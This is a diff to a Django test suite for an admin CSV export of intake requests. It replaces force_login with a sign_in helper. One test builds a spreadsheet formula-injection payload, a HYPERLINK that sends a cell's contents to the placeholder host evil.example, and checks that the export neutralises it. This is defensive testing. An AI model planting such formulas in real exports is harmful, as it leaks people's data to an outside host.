@@ -13,6 +13,7 @@ from django.urls import reverse
 from intake.admin import IntakeRequestAdmin
 from intake.export import export_response, neutralise_cell
 from intake.models import AccessRecord, IntakeRequest
+from tests.auth import sign_in
 
 CHANGELIST = reverse("admin:intake_intakerequest_changelist")
 EXPORT = reverse("admin:intake_intakerequest_export")
@@ -62,7 +63,7 @@ def test_exported_file_neutralises_formulas_in_what_the_visitor_typed(
 ):
     payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
     intake_request = make_request(first_name=payload, message=payload, email=payload)
-    client.force_login(exporter)
+    sign_in(client, exporter)
     [row] = rows_of(export_selected(client, [intake_request]))
     assert row["name"] == "'" + payload
     assert row["message"] == "'" + payload
@@ -72,7 +73,7 @@ def test_exported_file_neutralises_formulas_in_what_the_visitor_typed(
 def test_exported_file_holds_the_selected_requests_only(client, exporter, make_request):
     chosen = make_request(first_name="Marisol", phone="+16145550142", message="Please call")
     make_request(first_name="Jordan")
-    client.force_login(exporter)
+    sign_in(client, exporter)
     response = export_selected(client, [chosen])
     [row] = rows_of(response)
     assert row["reference"] == chosen.reference
@@ -86,7 +87,7 @@ def test_export_is_an_uncached_attachment_named_without_personal_data(
     client, exporter, make_request
 ):
     intake_request = make_request(first_name="Marisol")
-    client.force_login(exporter)
+    sign_in(client, exporter)
     response = export_selected(client, [intake_request])
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     disposition = response["Content-Disposition"]
@@ -105,7 +106,7 @@ def test_export_response_forbids_caching_on_its_own(exporter, make_request):
 def test_each_exported_request_is_recorded(client, exporter, make_request):
     exported = [make_request(), make_request()]
     make_request()
-    client.force_login(exporter)
+    sign_in(client, exporter)
     export_selected(client, exported)
     records = set(AccessRecord.objects.values_list("user", "action", "request", "reference"))
     assert records == {
@@ -128,7 +129,7 @@ def test_export_action_is_offered_only_with_the_export_permission(
 
 def test_admissions_staff_without_the_permission_cannot_export(client, admissions, make_request):
     intake_request = make_request()
-    client.force_login(admissions)
+    sign_in(client, admissions)
     response = export_selected(client, [intake_request])
     # Back to the list ("No action selected"), not a file.
     assert response.status_code == 302
@@ -144,7 +145,7 @@ def test_export_url_exports_what_the_list_shows(client, exporter, make_request):
     closed = make_request(
         status=IntakeRequest.Status.CLOSED, close_reason=IntakeRequest.CloseReason.SPAM
     )
-    client.force_login(exporter)
+    sign_in(client, exporter)
     assert [row["reference"] for row in rows_of(client.post(EXPORT))] == [open_request.reference]
     response = client.post(f"{EXPORT}?status=closed")
     assert [row["reference"] for row in rows_of(response)] == [closed.reference]
@@ -154,14 +155,14 @@ def test_export_url_exports_what_the_list_shows(client, exporter, make_request):
 def test_export_url_needs_a_post_with_the_csrf_token(exporter, make_request):
     make_request()
     client = Client(enforce_csrf_checks=True)
-    client.force_login(exporter)
+    sign_in(client, exporter)
     assert client.get(EXPORT).status_code == 405
     assert client.post(EXPORT).status_code == 403
     assert not AccessRecord.objects.exists()
 
 
 def test_list_offers_the_export_button_only_with_the_permission(client, admissions):
-    client.force_login(admissions)
+    sign_in(client, admissions)
     assert f'action="{EXPORT}' not in client.get(CHANGELIST).content.decode()
     grant_export(admissions)
     assert f'action="{EXPORT}' in client.get(CHANGELIST).content.decode()
